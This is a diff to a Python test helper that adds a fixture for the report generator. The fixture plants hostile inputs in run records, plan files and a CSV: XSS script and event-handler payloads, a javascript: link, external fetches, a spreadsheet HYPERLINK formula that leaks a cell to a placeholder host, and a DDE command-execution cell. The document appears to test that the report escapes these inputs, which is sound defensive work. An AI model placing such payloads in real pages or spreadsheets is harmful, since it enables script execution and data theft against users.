@@ -10,6 +10,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import re
 import subprocess
@@ -435,3 +436,52 @@ def cross_cluster_runs(root: Path) -> CrossCluster:
     records of conftest's session fixture ``cross_cluster``."""
     clusters = write_clusters(root / "clusters")
     return CrossCluster(root, {name: run_study(root, name, clusters) for name in CORES})
+
+
+# --------------------------------------------------------------------------- a malicious bundle
+#: What another cluster's records may hold where the pages show text: a marker script (it would
+#: set the page's title to MARKER), event handlers, javascript: and external URLs, and cells a
+#: spreadsheet would run as formulas.
+MARKER = "pwned"
+EVIL = {
+    "script": f"<script>document.title='{MARKER}'</script>",
+    "handler": f"<img src=x onerror=\"document.title='{MARKER}'\">",
+    "link": f"<a href=\"javascript:document.title='{MARKER}'\">click</a> javascript:alert(1)",
+    "fetch": '<img src="http://127.0.0.1:9/leak.png"><link rel=stylesheet href=https://x.invalid/a.css>',
+    "formula": '=HYPERLINK("https://x.invalid/?leak="&A1,"open")',
+    "dde": "@SUM(1+1)*cmd|' /c calc'!A1",
+    "tab": "\t=1+1",
+}
+EVIL_SCENARIOS = {"base": EVIL["script"], "-cmd": EVIL["formula"], "bad": EVIL["handler"]}
+
+
+def malicious_study(root: Path) -> Path:
+    """A study on unit-cluster whose labels, hosts, GPU and CPU models, error excerpt and plan.csv
+    carry EVIL (no training: records as the runner writes them); its report rendered by the
+    report CLI. Returns the study folder (results/unit-cluster/unit-study)."""
+    paths = []
+    for name, label in EVIL_SCENARIOS.items():
+        outcome = "error" if name == "bad" else "ok"
+        excerpt = f"Traceback {EVIL['link']} {EVIL['fetch']} {EVIL['dde']}"
+        metrics = make_record(root, name, label=label, outcome=outcome, error_excerpt=excerpt,
+                              tokens_per_s=1000.0 if name == "base" else 600.0)  # fmt: skip
+        set_provenance(metrics, host=EVIL["tab"] + EVIL["script"], hosts=[EVIL["fetch"]],
+                       gpu_model=EVIL["link"], cpu_model=EVIL["dde"])  # fmt: skip
+        paths.append(metrics)
+    study = paths[0].parent.parent.parent
+    plan = {"study": STUDY, "cluster": CLUSTER, "description": EVIL["fetch"], "repeats": 1,
+            "baseline": "base", "model": {"config": {"model_type": EVIL["script"]}},
+            "scenarios": [{"name": n, "label": label} for n, label in EVIL_SCENARIOS.items()]}  # fmt: skip
+    contracts.write_json(study / "plan.json", plan)
+    fields = {f.name: None for f in dataclasses.fields(contracts.Prediction)}
+    contracts.write_predictions(study / contracts.PLAN_CSV, [
+        contracts.Prediction(**{**fields, "scenario": n, "predict_only": False, "force": False,
+                                "world_size": 8, "feasible": n != "bad", "reason": EVIL["dde"]})
+        for n in EVIL_SCENARIOS
+    ])  # fmt: skip
+    assert run_collect_cli(paths, study) == 0
+    report = root / bundle.report_path(STUDY)
+    assert R.main(["--runs", str(study / "runs.csv"), "--summary", str(study / "summary.csv"),
+                   "--plan", str(study / "plan.json"), "--out", str(report),
+                   "--figures-dir", str(report.parent / "figures")]) == 0  # fmt: skip
+    return study
